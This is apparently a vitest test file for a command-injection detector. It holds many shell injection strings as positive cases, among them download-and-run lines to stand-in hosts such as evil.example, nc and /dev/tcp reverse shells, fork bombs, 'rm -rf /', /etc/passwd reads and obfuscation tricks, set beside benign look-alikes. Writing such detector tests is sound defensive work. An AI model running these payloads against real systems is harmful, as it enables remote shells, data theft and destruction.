import { describe } from 'vitest';
import { detectCmdi } from '../../src/detect/cmdi/index.ts';
import { globMatch } from '../../src/detect/cmdi/commands.ts';
import { forEachShellCommand, tokenizeShell } from '../../src/detect/cmdi/tokenize.ts';
import { expect, it } from 'vitest';
import { checkAttacks, checkBenign, checkRobust } from './fixture-check.ts';

describe('cmdi tokenizer', () => {
  it('splits on separators and undoes quoting, escapes and IFS', () => {
    const cmds = tokenizeShell("a && c'a't /et\\c/pa\"\"sswd | w$@ho$9ami;x${IFS}y");
    expect(cmds.map((c) => [c.separator, c.words.map((w) => w.text)])).toEqual([
      ['start', ['a']],
      ['&&', ['cat', '/etc/passwd']],
      ['|', ['whoami']],
      [';', ['x', 'y']],
    ]);
    expect(cmds[1]!.words[0]!.obfuscated).toBe(true);
  });
  it('hands commands over one at a time, in order, and stops when told', () => {
    const value = 'a;b $(c d)|e `f`;g';
    const seen: string[] = [];
    forEachShellCommand(value, (c) => void seen.push(c.words.map((w) => w.text).join(' ')));
    expect(seen).toEqual(tokenizeShell(value).map((c) => c.words.map((w) => w.text).join(' ')));
    expect(seen.length).toBeGreaterThan(4);
    const stoppedAt: string[] = [];
    forEachShellCommand(value, (c) => (stoppedAt.push(c.words[0]!.text), stoppedAt.length === 2));
    expect(stoppedAt).toEqual(seen.slice(0, 2).map((s) => s.split(' ')[0]));
  });
  it('takes an unbalanced apostrophe literally', () => {
    expect(tokenizeShell("don't; it's").map((c) => c.words.map((w) => w.text))).toEqual([["don't"], ["it's"]]);
  });
  it('matches globs without backtracking blow-up', () => {
    expect(globMatch('/???/c?t', '/bin/cat')).toBe(true);
    expect(globMatch('/bin/ca*', '/bin/cat')).toBe(true);
    expect(globMatch('*a*a*a*a*a*b', 'a'.repeat(60))).toBe(false);
  });
});

describe('cmdi detector', () => {
  checkAttacks(detectCmdi, 'cmdi', [
    { value: ';cat /etc/passwd', rule: 'cmdi.chained_command' },
    { value: "; cat /et'c/pa'ss'wd", rule: 'cmdi.obfuscated_command' },
    { value: 'cmd=127.0.0.1 && ls /etc' },
    { value: '127.0.0.1 | whoami' },
    { value: '127.0.0.1 || id' },
    { value: 'x & ping -n 10 127.0.0.1 &' },
    { value: 'file.txt;rm -rf /' },
    { value: 'a\nid\n' },
    { value: 'ax--exec=`id`--remote=origin', rule: 'cmdi.command_substitution' },
    { value: 'ax--exec=`id`--remote=origin', location: 'body' },
    { value: 'name=$(whoami)' },
    { value: ';wget http://evil.example/x.sh -O /tmp/x' },
    { value: '|getent+hosts+somehost.example.net.&' },
    { value: ';getent$IFS$9hosts$IFS$9somehost.example.net;echo$IFS$9$((3482*7301));' },
    { value: ";cat${IFS}/etc/passwd" },
    { value: ';{cat,/etc/passwd}' },
    { value: ';/???/c?t /???/p??s??' },
    { value: ";$'\\x63at' /etc/passwd" },
    { value: 'a|wh\\oami' },
    { value: 'a;w"h"o"a"mi' },
    { value: ';cat${PATH:0:1}etc${PATH:0:1}passwd' },
    { value: '| set /a 3482*7301' },
    { value: '& type c:\\windows\\win.ini' },
    { value: '| powershell -enc SQBFAFgA' },
    { value: '& certutil -urlcache -split -f http://x/a.exe' },
    { value: "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'", rule: 'cmdi.shellshock' },
    { value: "AAAA;$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)" },
    { value: 'cat /etc/passwd', rule: 'cmdi.command_line' },
    { value: 'nc -e /bin/sh 10.0.0.1 4444' },
    { value: 'ls -la', severity: 1 },
    { value: 'c:\\windows\\system32\\cmd.exe /c dir' },
    { value: 'cmd=${@print(md5(31337))}', rule: 'cmdi.php_complex_call' },
    { value: "__import__('os').system('id')", rule: 'cmdi.python_import' },
    { value: "require('child_process').exec('id')", rule: 'cmdi.node_child_process' },
    { value: "system('cat /etc/passwd')" },
    { value: 'shell_exec($x)' },
    { value: 'eval(base64_decode("ZWNobyAxOw=="))' },
    { value: 'Ev al ("Ex"&"e"&"cute(""Server.ScriptTimeout=3600:On Error Resume Next"' },
    { value: '!!python/object/new:exec [import os]' },
    { value: 'Runtime.getRuntime().exec("id")' },
    { value: 'pets: dog | cat', severity: 1 },
    { value: '/etc/[p]asswd', rule: 'cmdi.glob_path' },
    { value: 'cat /e??/p*d', rule: 'cmdi.glob_path' },
    { value: '/usr/bin/[u]name -a', rule: 'cmdi.obfuscated_command' },
    { value: 'pi``ng 127.0.0.1', rule: 'cmdi.obfuscated_command' },
    { value: 'pi$()ng 127.0.0.1' },
    { value: '|$u wget test' },
    { value: 'strace sh -c whoami' },
    { value: 'x;(whoami)' },
    { value: ':(){ :|:& };:', rule: 'cmdi.fork_bomb' },
    { value: '<?php echo "test"', rule: 'cmdi.php_code' },
    { value: '<?=1;echo 1;' },
    { value: 'On Error Resume Next:Function bd(byVal s)', rule: 'cmdi.vbscript_code' },
    { value: 'Try `;cat /et"c"/passwd` now, it is a really nice command for all of us to run here today friends ok', location: 'body' },
    // cmd.exe FOR and IF statements (CRS 932140 shapes), read by batch.ts without shell punctuation.
    { value: 'FOR /D /D        %a IN (dirs) DO abc', rule: 'cmdi.batch_syntax' },
    { value: 'for /r c:\\ %variable in (set) do command', rule: 'cmdi.batch_syntax' },
    { value: '& FOR %~ IN (a,b,c)DO cmd', rule: 'cmdi.batch_syntax' },
    { value: 'FOR /F "tokens=1,2* delims=," %% IN (C:\\MyDocu~1\\mytex~1.txt) DO ECHO %%', rule: 'cmdi.batch_syntax' },
    { value: "& for /f \\\"delims=\\\" %i in ('cmd /c \\\"set /a (63+21)\\\"') do @set /p = X%iX< nul", rule: 'cmdi.batch_syntax' },
    { value: 'IF        EXIST data.xls         Echo The file was found.', rule: 'cmdi.batch_syntax' },
    { value: 'IF    NOT EXIST (C:\\nonexistent) ECHO pwnt', rule: 'cmdi.batch_syntax' },
    { value: 'IF    NOT DEFINED _example       ECHO Value Missing', rule: 'cmdi.batch_syntax' },
    { value: 'IF        ERRORLEVEL 0           CMD', rule: 'cmdi.batch_syntax' },
    { value: 'if/i a==b foo', rule: 'cmdi.batch_syntax' },
    { value: 'if not {%1} == {}', rule: 'cmdi.batch_syntax' },
    { value: 'IF        "2"          GEQ "15"  echo "bigger"', rule: 'cmdi.batch_syntax' },
    // wrappers, leading separators, new dictionary entries, alias, exec arguments
    { value: 'strace ifconfig', rule: 'cmdi.command_line' },
    { value: 'nohup who', rule: 'cmdi.command_line' },
    { value: 'time ifconfig', rule: 'cmdi.command_line' },
    { value: ';top', rule: 'cmdi.chained_command' },
    { value: ';gdb -nx -ex \\!whoami -ex quit' },
    { value: 'time; ansible-playbook site.yml' },
    { value: ';lastlogin -u admin' },
    { value: 'whoami;0\'0\'"' },
    { value: 'pi<()ng 127.0.0.1', rule: 'cmdi.obfuscated_command' },
    { value: 'alias a=c${KK}url&a google.com', rule: 'cmdi.command_alias' },
    { value: "alias ls-al='ls -al'", rule: 'cmdi.command_alias' },
    { value: ';find /etc -name passwd -exec cat {}' },
    { value: 'Something else.\ncat /etc/passwd;' },
    { value: '<(cat file)', rule: 'cmdi.command_substitution' },
    { value: '>(tee log)', rule: 'cmdi.command_substitution' },
    { value: ';ssh-copy-id user@server' },
    { value: 'd=/dev&&(sh)0>$d/tcp/51.15.142.164/777' },
  ]);
  checkBenign(detectCmdi, [
    { value: 'I cat my files and sleep; then ls the rest' },
    { value: 'Terms & conditions | About us' },
    { value: 'Tom & Jerry; rock & roll' },
    { value: "don't worry; it's fine" },
    { value: 'curl and divergence' },
    { value: 'echo in the mirror' },
    { value: 'nc 8000 controller' },
    { value: 'ls 300 lexus' },
    { value: 'exec noun' },
    { value: 'zsh is the best!' },
    { value: 'bash away in the gym' },
    { value: 'What is this? Okay | why' },
    { value: 'C:\\Users\\bob\\Documents\\report.docx' },
    { value: '\\\\fileserver\\share\\q3.xlsx' },
    { value: 'a=1&b=2&c=3' },
    { value: 'price: $5 (tax incl.)' },
    { value: 'dog\ncat\nbird', location: 'body' },
    { value: 'Use `ls` to list files.', location: 'body', below: 2 },
    { value: 'The eval() function is evil, says Crockford.', location: 'body' },
    { value: 'Call me (555) 123-4567; ask for Sam.' },
    { value: 'https://example.com/search?q=cat&sort=asc' },
    { value: '{"name":"Sam","tags":["a","b"]}' },
    { value: 'R&D | Q&A' },
    { value: 'time: 10:30 - 11:00; room 4' },
    { value: 'compress;q=0.5, gzip;q=1.0', location: 'header' },
    { value: 'application/json, */*;q=0.1', location: 'header' },
    { value: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)', location: 'header' },
    { value: 'Enter the number (id) here' },
    { value: 'select(sleep(10));' },
    { value: "/*';INSERT INTO category(id) VALUES (3)-- -*/" },
    { value: 'Спасибо! | id | name | price | |---:|------|------:| | 1 | Chair | 99.00 |', location: 'body' },
    { value: 'Set the value to 1 or 2, whichever works; 1=1 seemed to do nothing.\nSet it again', location: 'body' },
    { value: 'Try `cat /etc/os-release` to see the version you run', location: 'body' },
    { value: '<p>Run:</p><pre><code>ps aux | grep -v grep | wc -l</code></pre>', location: 'body' },
    { value: '<?xml version="1.0"?><a/>' },
    { value: 'x <? y' },
    { value: 'formula=a*c' },
    // English "for" and "if", and look-alikes of the shapes above that are not commands
    { value: 'for example (see below) do this' },
    { value: 'If defined by admins the limit applies' },
    { value: 'if you want, do it for me in (say) an hour' },
    { value: 'Set it if exist' },
    { value: 'time who' , below: 2 },
    { value: 'sudo make me a sandwich' },
    { value: 'alias me=the boss' },
    { value: 'gzip;q=1.0, identity; q=0.5', location: 'header' },
    { value: 'Tell me whoami; I forgot' },
    { value: 'a*c and b*d' },
    { value: 'I feel <(sad) today' },
    { value: 'Love it; ssh is great' },
    // C, Perl and Python conditions, gdb prompts, Markdown code after a distinctive word
    { value: "if (c=='#')" },
    { value: 'if ( $curline == $lnum ) {' },
    { value: 'if a == b:' },
    { value: '(gdb) p var' },
    { value: 'Make `values` faster (fix #652)' },
    { value: '} elsif ($tar_name =~ s/\\.(tar\\.(lzma|xz)|(tlz|txz))$//) {' },
  ]);
  checkRobust(detectCmdi);
});

describe('cmdi detector: second-wave shapes', () => {
  it('expands brace words with a prefix or suffix, and notes $IFS splits', () => {
    expect(tokenizeShell('c{a,oun}t /etc/passwd')[0]!.words.map((w) => w.text)).toEqual(['cat', 'count', '/etc/passwd']);
    expect(tokenizeShell('{l,-lh}s')[0]!.words.map((w) => w.text)).toEqual(['ls', '-lhs']);
    expect(tokenizeShell('echo${IFS}x')[0]!.ifs).toBe(true);
    expect(tokenizeShell('echo x')[0]!.ifs).toBeUndefined();
  });
  checkAttacks(detectCmdi, 'cmdi', [
    // fork bombs, renamed
    { value: '.(){ .|.& };.', rule: 'cmdi.fork_bomb' },
    { value: 'f(){ f & f; };f', rule: 'cmdi.fork_bomb' },
    { value: 'f(){ f() | f(); }; f', rule: 'cmdi.fork_bomb' },
    { value: ':(){ :|:& };:', rule: 'cmdi.fork_bomb' },
    // brace and glob spellings
    { value: 'c{a,oun}t', rule: 'cmdi.obfuscated_command' },
    { value: '{l,-lh}s', rule: 'cmdi.obfuscated_command' },
    { value: '{,/?s?/?i?/c?t,/e??/p??s??,}', rule: 'cmdi.glob_path' },
    { value: '/???/??t', rule: 'cmdi.obfuscated_command' },
    { value: '/???/?s', rule: 'cmdi.obfuscated_command' },
    // $IFS as the blank
    { value: '0.8462`echo${IFS}crs312`', rule: 'cmdi.obfuscated_command' },
    // the command spelled through variables set in the same value
    { value: 'a=nc&&$a -nlvp 555' },
    { value: 'c4=\\ ;c3=t;c2=a;c1=c;a1=/;a2=e;a3=t;a4=c;a5=/;a6=p;a7=a;a8=s;a9=s;a10=w;a11=d;$c1$c2$c3$c4$a1$a2$a3$a4$a5$a6$a7$a8$a9$a10$a11', rule: 'cmdi.obfuscated_command' },
    { value: 'x=/etc&&y=/passwd&&z=cat&&$z $x$y', rule: 'cmdi.obfuscated_command' },
    { value: 'garb=adduse[r];$garb pizza' },
    // compilers running a wrapper
    { value: ';c89 -wrapper sh,-c,id .', rule: 'cmdi.command_line' },
    { value: 'c99 -wrapper sh,-c,curl google.com .', rule: 'cmdi.command_line' },
    // PowerShell / WMI
    { value: ';iwmi -class Win32_process -name Create -ArgumentList cmd' },
    // form encoding's '+' left undecoded, with a glob or quotes
    { value: 'cat+/et*/*wd', rule: 'cmdi.glob_path' },
    { value: "cat+/et'c'/passwd", rule: 'cmdi.obfuscated_command' },
    // the login shell asked to run a command; archive readers on logs
    { value: '${SHELL} -c "echo hi"' },
    { value: 'gunzip -c /var/log/sensitive_log_file.gz' },
    // XML values are read like body values
    { value: ';iwr http://example.com/path/file.ps1', location: 'xml' },
    { value: 'www.google.com;/bin/ca? /et*/passwd', location: 'xml' },
  ]);
  checkBenign(detectCmdi, [
    { value: 'dwz_file=$(echo $dwz_file)' },
    { value: 'ls+Zm9vYmFy/abc+def==', location: 'cookie' },
    { value: 'Q2F0+L2V0Yy9wYXNzd2Q+id/ls==', location: 'cookie' },
    { value: 'price=$5 and tax=$1' },
    { value: 'Use {a,b} or {x,y} as the pair notation' },
    { value: 'photo.{jpg,png}' },
    { value: 'Is it /???/ or not? I do not know.' },
    { value: 'The function f() { return a | b & c; } is bitwise' },
    { value: 'Compile with gcc -Wall -o app main.c', location: 'xml' },
    { value: 'Tom & Jerry; the cat and the mouse', location: 'xml' },
  ]);
});

describe('cmdi detector: shell forms without a command word, and whole command lines', () => {
  checkAttacks(detectCmdi, 'cmdi', [
    // directory-stack tilde and history expansion
    { value: '~-1', rule: 'cmdi.shell_expansion' },
    { value: '~+5', rule: 'cmdi.shell_expansion' },
    { value: '!-1!-2', rule: 'cmdi.history_expansion' },
    { value: '!!', severity: 1, rule: 'cmdi.history_expansion' },
    // sqlite3 console dot-commands after the statement's own `;` (a literal `\n` is a line break too)
    { value: ';\n.shell nc 10.10.10.1 6666 -e sh\n', rule: 'cmdi.sqlite_dot_command' },
    { value: ';\\n.system nc 10.10.10.1 6666 -e sh\\n', rule: 'cmdi.sqlite_dot_command' },
    { value: '1;.sh whoami', rule: 'cmdi.sqlite_dot_command' },
    { value: '1;.\\"shell whoami\n', location: 'body', rule: 'cmdi.sqlite_dot_command' },
    // a command line chained to another command line
    { value: 'cd /;cd etc;column passwd\n', location: 'body', rule: 'cmdi.chained_command' },
    // whole command lines: options, deep paths, wrappers, the Enter that submits them
    { value: 'ansible all -m ping\n', location: 'body' },
    { value: 'flock -u / whoami', location: 'body' },
    { value: 'perf --version', location: 'body' },
    { value: 'cat /path/file.gz\n', location: 'body' },
    { value: "'ll' /var/www/" },
    { value: 'find /etc -name passwd -exec cat {} +', location: 'body_name' },
    { value: 'cscli alerts list\n', location: 'body' },
    { value: 'chef-shell\n', location: 'body' },
    { value: 'time who', severity: 1 },
    { value: "ti''me who", rule: 'cmdi.obfuscated_command' },
    { value: "'time' who", rule: 'cmdi.obfuscated_command' },
    { value: "kill '-'9\n", location: 'body', rule: 'cmdi.obfuscated_command' },
    // a quote that closes the application's string, then the command
    { value: "'TiMe Sh -c whoami" },
    { value: "';htop'", location: 'body' },
    // versioned tool names, commands handed a command string, binaries by path, alias definitions
    { value: 'echo | gcc7.4', location: 'body' },
    { value: ";trap 'rm -rf file.txt' SIGEXIT", location: 'body' },
    { value: ';at 2:00 "echo test"' },
    { value: 'bin/visudo', rule: 'cmdi.command_line' },
    { value: 'alias -gmr a=b\n', location: 'body', rule: 'cmdi.command_alias' },
    { value: 'alias +m a=b', rule: 'cmdi.command_alias' },
    // bash parameter expansion with an operator, bash's old arithmetic: suspicious (strict mode)
    { value: '${x#{}}', severity: 1, rule: 'cmdi.shell_expansion' },
    { value: '${PATH#{}/}', severity: 1, rule: 'cmdi.shell_expansion' },
    { value: 'a${u:-id}b', severity: 1, rule: 'cmdi.shell_expansion' },
    { value: '${#HOME}', severity: 1, rule: 'cmdi.shell_expansion' },
    { value: '$[2+2]', severity: 1, rule: 'cmdi.shell_expansion' },
  ]);
  checkBenign(detectCmdi, [
    { value: '~ 5 minutes', location: 'body' },
    { value: '~+' }, // "about plus": needs more than the value to tell
    { value: 'Wow!!', location: 'body' },
    { value: '!!', below: 2 },
    { value: 'Time who knows', location: 'body' },
    { value: 'Set the value to 1; then more', location: 'body', below: 2 },
    { value: 'name;date;author', below: 2 },
    { value: 'Python\n', location: 'body' },
    { value: 'git\n', location: 'body' },
    { value: 'bin/console' },
    { value: 'The alias a=b is set', location: 'body' },
    { value: 'alias name' },
    { value: 'Visit at 2:00 "we meet"', location: 'body' },
    { value: 'see you; .NET developers welcome', location: 'body' },
    { value: "That's two \"O\"s in goose" },
    { value: "'Hello' she said" },
    { value: 'Cut orange quarters into crosswise slices about 1/8-inch thick.\n', location: 'body' },
    { value: '{"dir":"~/docs","cmd":"list"}', location: 'body' },
    // templates and JSONPath: `${name}`, `${a.b}`, `$[0]`, `$['k']`, a filter
    { value: 'Hello ${name}, your order ${order.id} shipped' },
    { value: '`${base}/users/${id}`', location: 'body' },
    { value: '$[0].items[*]' },
    { value: "$['store']['book']" },
    { value: '$[?(@.price < 10)]' },
    { value: 'Costs $[5] each' },
    // a shell tutorial posted whole is a document: shown, not run
    {
      value: 'To give a variable a default in bash, write it like this:\n\n    echo "${NAME:-guest}"\n\nand the shell prints guest when NAME is unset. Handy in scripts.',
      location: 'body',
    },
  ]);
});

describe('cmdi detector: headers that are never command lines', () => {
  const header = (value: string, name: string) => detectCmdi(value, 'header', name);
  it('blocks a User-Agent or Referer that is a command line', () => {
    for (const v of ['set -o history', 'visudo', 'cscli alerts list', "'cscli' alerts list", 'code=ansible-console']) {
      expect(header(v, 'User-Agent')?.severity, v).toBe(2);
    }
    expect(header('chef report nodes', 'referer')?.severity).toBe(2);
    // a parameter of the referring URL that is a command with only options
    expect(header('https://example.com/?args=env --version', 'referer')?.severity).toBe(2);
    expect(header('https://example.com/?a=1&args=perf+--version', 'Referer')?.severity).toBe(2);
  });
  it('passes agent strings, client names and URLs', () => {
    for (const v of ['Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36', 'curl/8.1.2', 'Wget', 'curl', 'python-requests/2.31.0', 'git/2.43.0']) {
      expect(header(v, 'User-Agent'), v).toBeNull();
    }
    expect(header('https://example.com/a?b=c', 'Referer')).toBeNull();
    for (const v of ['https://example.com/?args=environment', 'https://www.example.com/search?q=cat+videos', 'https://example.com/?q=ls%20-la%20meaning', 'https://example.com/?q=%E0%A4%A']) {
      expect(header(v, 'Referer'), v).toBeNull();
    }
    // other headers keep the generic reading: a list header's words are not a command line
    expect(header('set -o history', 'X-Note')).toBeNull();
  });
});

describe('cmdi detector: word-list evasions and whole-value shapes (third wave)', () => {
  it('reads `$_` inside a word and `$"…"` the way the evasion means them', () => {
    expect(tokenizeShell('c$_at /et$_c/pas$_swd')[0]!.words.map((w) => w.text)).toEqual(['cat', '/etc/passwd']);
    expect(tokenizeShell('{,$"whoami",}')[0]!.words.map((w) => w.text)).toEqual(['whoami']);
    // at the start of a word `$_name` stays a variable (PHP's $_GET is not the word "GET")
    expect(tokenizeShell('echo $_GET')[0]!.words.map((w) => w.text)).toEqual(['echo', '']);
  });
  checkAttacks(detectCmdi, 'cmdi', [
    { value: 'www.example.com;c$_at+/et$_c/pas$_swd', rule: 'cmdi.obfuscated_command' },
    { value: 'x=foo;c$_at /et$_c/pas$_swd', location: 'header' },
    { value: '{,$"whoami",}', rule: 'cmdi.obfuscated_command' },
    { value: 'cat /[?]tc/pa[?]swd', rule: 'cmdi.glob_path' },
    { value: '$(($() 42))', rule: 'cmdi.command_substitution' },
    { value: 'echo $(( $(id -u) + 1 ))', rule: 'cmdi.command_substitution' },
    { value: '/bin/ab', rule: 'cmdi.command_line' },
    { value: '/usr/sbin/sendmail', location: 'body', rule: 'cmdi.command_line' },
    { value: '>/tmp/curl', rule: 'cmdi.redirect' },
    { value: '2>>/etc/cron.d/job', location: 'body', rule: 'cmdi.redirect' },
    { value: 'view=image.jpg&bcdboot/r file.txt', location: 'query_name' },
    { value: 'x|netsh/?' },
    { value: 'if (AA) == (AA) echo same', rule: 'cmdi.batch_syntax' },
    // expansions inside double quotes are read too
    { value: ';cat "/et${x}c/pa$@sswd"' },
  ]);
  checkBenign(detectCmdi, [
    { value: 'the total$_sum field', location: 'body' },
    { value: 'a{$_x}b is a template', location: 'body' },
    { value: 'price $_5 off', location: 'body' },
    { value: 'Say $"hello" in bash', location: 'body', below: 2 },
    { value: 'cat /[abc]/x', below: 2 },
    { value: 'total: $((1+2))' },
    { value: 'echo $((x * 2))', below: 2 },
    { value: '/bin/ab', location: 'path' }, // a paste-bin page, not a program
    { value: 'bin/console' },
    { value: '/blog/2024/hello' },
    { value: '> /tmp is full again', location: 'body' },
    { value: '> quoted reply', location: 'body' },
    { value: 'save to /tmp/output.txt', location: 'body' },
    { value: 'cat/dog' },
    { value: 'Q&A: and/or' },
    { value: 'Tom & cat/dog food', location: 'body' },
    { value: 'if (a) == (b) { run() }', location: 'body' },
    { value: 'if (a) == (b): print(1)', location: 'body' },
    { value: 'if (price) == (cost) we lose', location: 'body' },
  ]);
});

describe('cmdi detector: cmd.exe variables and a string layer in between', () => {
  checkAttacks(detectCmdi, 'cmdi', [
    // a quote closing the application's string mid-value, then a pipe into a Windows tool
    { value: 'anna@shop.example"|bcdboot %SYSTEMROOT%\\win.ini', location: 'body' },
    { value: 'x|type %WINDIR%\\system32\\drivers\\etc\\hosts' },
    // backslashes doubled for a PHP/JS string literal between the request and the shell
    { value: "v='u';cu$v\\\\r\\l attacker.example\n", location: 'body', rule: 'cmdi.obfuscated_command' },
    { value: 'a=ca;b=t;$a\\\\$b /etc/passwd', rule: 'cmdi.obfuscated_command' },
  ]);
  checkBenign(detectCmdi, [
    { value: 'C:\\\\Users\\\\anna\\\\cat.txt' },
    { value: '{"pattern":"\\\\d+\\\\.\\\\d+"}', location: 'body' },
    { value: 'Save it under %APPDATA% and restart', location: 'body' },
    { value: 'prices up 100%Pure%Love', location: 'body' },
  ]);
});

describe("cmdi detector: vi's shell escape", () => {
  // GTFOBins' way out of an editor: `:!command` runs a shell; CRS 932236/932238.
  checkAttacks(detectCmdi, 'cmdi', [
    { value: ';vim dddd +silent\\ \\!whoami +wq', location: 'body', rule: 'cmdi.editor_escape' },
    { value: ';ex dddd +silent\\ \\!whoami +wq', location: 'body', rule: 'cmdi.editor_escape' },
    { value: ';vi -c:\\!pwd\n', location: 'body', rule: 'cmdi.editor_escape' },
    { value: "vim -c ':!/bin/sh'", rule: 'cmdi.editor_escape' },
    { value: 'x|nvim +!id', rule: 'cmdi.editor_escape' },
    { value: ";vim -c 'silent !id' -c q", rule: 'cmdi.editor_escape' },
  ]);
  checkBenign(detectCmdi, [
    { value: 'my ex !important', location: 'body' },
    { value: 'Chapter vi !wow', location: 'body' },
    { value: 'vim is great!', location: 'body' },
    { value: 'open it in vi and type :wq!', location: 'body' },
    { value: 'vim -c "set number" file.txt', location: 'body', below: 2 },
    { value: 'vim +silent file.txt', location: 'body' },
  ]);
});

describe('cmdi detector: a network probe of one host alone in a value', () => {
  // `ping 127.0.0.1` typed into a search box or a ticket names a host (CRS 932260 must-pass); the
  // same command with an option, the Enter that submits it, or a separator is still a command line.
  checkAttacks(detectCmdi, 'cmdi', [
    { value: 'ping -c 10 127.0.0.1', rule: 'cmdi.command_line' },
    { value: 'ping 127.0.0.1 -c 3', rule: 'cmdi.command_line' },
    { value: 'ping 127.0.0.1\n', location: 'body', rule: 'cmdi.command_line' },
    { value: ';ping 127.0.0.1', rule: 'cmdi.chained_command' },
    { value: 'ping 127.0.0.1;id' },
    { value: 'ping 127.0.0.1|id' },
    { value: 'ping $(whoami).attacker.example', rule: 'cmdi.command_substitution' },
    { value: 'ping /etc/passwd' },
  ]);
  checkBenign(detectCmdi, [
    { value: 'ping 127.0.0.1' },
    { value: 'ping 8.8.8.8', location: 'body' },
    { value: 'traceroute example.com' },
    { value: 'nslookup mail.example.org' },
  ]);
});

describe("cmdi detector: wiki markup's empty quote pairs", () => {
  it("reads '' that closes a word as markup (DokuWiki monospace, MediaWiki italics), '' before a letter as evasion", () => {
    const obfuscatedWords = (value: string) => tokenizeShell(value).flatMap((c) => c.words.filter((w) => w.obfuscated).map((w) => w.text));
    // Recorded from a DokuWiki page save (issue 25): `''…''` is its monospace, around a command quoted in a sentence.
    expect(obfuscatedWords("run ''du -sh /var/* | sort -h''.")).toEqual(['du']);
    expect(detectCmdi("Disk usage grows about 5% per month; at > 80% run ''du -sh /var/* | sort -h''.", 'body')?.rule).not.toBe('cmdi.obfuscated_command');
    expect(detectCmdi("Restart it with ''systemctl restart apache2'' and check the log.", 'body')?.severity ?? 0).toBeLessThan(2);
    // A pair that splits or leads a name still hides it.
    expect(obfuscatedWords("w''get x")).toEqual(['wget']);
    expect(detectCmdi("w''get http://203.0.113.9/x.sh", 'query')?.rule).toBe('cmdi.obfuscated_command');
    expect(detectCmdi(";''cat /etc/passwd", 'query')?.severity).toBe(2);
    expect(detectCmdi("rm -''rf /tmp/x", 'query')?.rule).toBe('cmdi.obfuscated_command');
  });
});
